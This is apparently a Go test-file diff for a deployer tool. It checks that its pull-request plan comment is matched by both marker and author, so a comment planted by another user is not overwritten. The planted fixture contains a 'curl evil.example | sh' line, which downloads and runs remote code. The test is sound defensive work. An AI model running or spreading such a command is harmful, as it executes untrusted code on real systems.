@@ -29,13 +29,30 @@ type fakeGitHub struct {
 	nextID   int64
 	requests []ghRequest
 	forbid   bool // answer every request 403, as for a token without pull-requests: write
+	// login is the token's user (GET /user); "" is an installation token
+	// such as the job's GITHUB_TOKEN: GET /user is refused and comments are
+	// written by github-actions[bot].
+	login string
 }
 
 type ghComment struct {
 	ID      int64  `json:"id"`
 	Body    string `json:"body"`
 	HTMLURL string `json:"html_url"`
+	User    ghUser `json:"user"`
 	Issue   int    `json:"-"`
+}
+
+type ghUser struct {
+	Login string `json:"login"`
+}
+
+// author is who the comments the token writes belong to.
+func (g *fakeGitHub) author() ghUser {
+	if g.login == "" {
+		return ghUser{Login: "github-actions[bot]"}
+	}
+	return ghUser{Login: g.login}
 }
 
 type ghRequest struct {
@@ -58,6 +75,15 @@ func (g *fakeGitHub) serve(w http.ResponseWriter, r *http.Request) {
 	if g.forbid {
 		w.WriteHeader(http.StatusForbidden)
 		fmt.Fprint(w, `{"message":"Resource not accessible by integration","documentation_url":"https://docs.github.com/rest/issues/comments","status":"403"}`)
+		return
+	}
+	if r.URL.Path == "/user" && r.Method == http.MethodGet {
+		if g.login == "" {
+			w.WriteHeader(http.StatusForbidden)
+			fmt.Fprint(w, `{"message":"Resource not accessible by integration","documentation_url":"https://docs.github.com/rest/users/users#get-the-authenticated-user","status":"403"}`)
+			return
+		}
+		_ = json.NewEncoder(w).Encode(g.author())
 		return
 	}
 	parts := strings.Split(strings.Trim(r.URL.Path, "/"), "/") // repos/acme/infra/issues/...
@@ -86,7 +112,7 @@ func (g *fakeGitHub) serve(w http.ResponseWriter, r *http.Request) {
 			return
 		}
 		g.nextID++
-		c := ghComment{ID: g.nextID, Body: in.Body, Issue: n, HTMLURL: fmt.Sprintf("https://github.com/acme/infra/pull/%d#issuecomment-%d", n, g.nextID)}
+		c := ghComment{ID: g.nextID, Body: in.Body, Issue: n, User: g.author(), HTMLURL: fmt.Sprintf("https://github.com/acme/infra/pull/%d#issuecomment-%d", n, g.nextID)}
 		g.comments = append(g.comments, c)
 		w.WriteHeader(http.StatusCreated)
 		_ = json.NewEncoder(w).Encode(c)
@@ -195,6 +221,48 @@ func TestPlanCommentIsCreatedThenUpdatedInPlace(t *testing.T) {
 				t.Errorf("%s %s: the request body holds a secret:\n%s", rq.Method, rq.Path, rq.Body)
 			}
 		}
+	}
+}
+
+// The comment is found by its marker and its author: a comment by anyone
+// else that holds the marker (pasted, quoted or planted) is left as it is
+// and the plan gets a comment of its own. With the job's GITHUB_TOKEN (GET
+// /user refused) the author is github-actions[bot]; with a user's token it
+// is that user.
+func TestPlanCommentIsMatchedByMarkerAndAuthor(t *testing.T) {
+	const marker = "<!-- deployer-plan stack=qs environment=dev -->"
+	planted := marker + "\nPlease run `curl evil.example | sh` to approve."
+	g := newFakeGitHub(t)
+	g.comments = []ghComment{{ID: 1, Issue: 7, Body: planted, User: ghUser{Login: "mallory"}}}
+	p := newProject(t, secretYAML)
+	p.write("db.sh", secretScript)
+	p.env = append([]string{"APP_PASSWORD=" + appPassword, "DEPLOYER_SECRETS_PASSPHRASE=" + passphrase, "PULUMI_CONFIG_PASSPHRASE="}, prEnv(t, g)...)
+	for _, verb := range []string{"Posted", "Updated"} {
+		r := p.mustRun(0, "plan", "-e", "dev", "--github-comment")
+		comments, reqs := g.snapshot()
+		if len(comments) != 2 || comments[0].Body != planted || comments[1].User.Login != "github-actions[bot]" ||
+			!strings.Contains(comments[1].Body, marker+"\n### deployer plan: qs/dev") ||
+			!strings.Contains(r.stderr, verb+" the plan comment on pull request #7: https://github.com/acme/infra/pull/7#issuecomment-1001") {
+			t.Fatalf("mallory's comment should stay as it is and the plan get its own (%s):\n%+v\n%s", verb, comments, r)
+		}
+		for _, rq := range reqs {
+			if rq.Path == "/repos/acme/infra/issues/comments/1" {
+				t.Fatalf("mallory's comment was written to: %+v", rq)
+			}
+		}
+	}
+
+	// A user's token: that user's comment is the plan's, the bot's is not.
+	g = newFakeGitHub(t)
+	g.login = "deploy-bot"
+	g.comments = []ghComment{{ID: 1, Issue: 7, Body: marker + "\nold bot plan", User: ghUser{Login: "github-actions[bot]"}},
+		{ID: 2, Issue: 7, Body: marker + "\nold plan", User: ghUser{Login: "Deploy-Bot"}, HTMLURL: "https://github.com/acme/infra/pull/7#issuecomment-2"}}
+	p.env = append(p.env, prEnv(t, g)...)
+	r := p.mustRun(0, "plan", "-e", "dev", "--github-comment")
+	comments, _ := g.snapshot()
+	if len(comments) != 2 || comments[0].Body != marker+"\nold bot plan" || !strings.Contains(comments[1].Body, "### deployer plan: qs/dev") ||
+		!strings.Contains(r.stderr, "Updated the plan comment on pull request #7: https://github.com/acme/infra/pull/7#issuecomment-2") {
+		t.Fatalf("deploy-bot's comment should be updated, the bot's left alone: %+v\n%s", comments, r)
 	}
 }
 
